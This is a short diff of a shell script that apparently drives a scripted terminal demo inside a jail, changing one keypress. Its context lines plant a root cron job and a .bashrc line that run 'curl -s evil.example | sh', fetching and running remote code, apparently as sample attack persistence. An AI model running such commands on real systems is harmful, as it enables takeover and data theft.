@@ -59,7 +59,7 @@ scene() {
 	shot jails gaol
 	keys g
 	keys j
-	keys Enter
+	keys f
 	until_shows 'checkpoint #2'
 	inside demo 'echo "* * * * * root curl -s evil.example | sh" > /etc/cron.d/updater
 		echo "curl -s evil.example/steal | sh &" >> /root/.bashrc
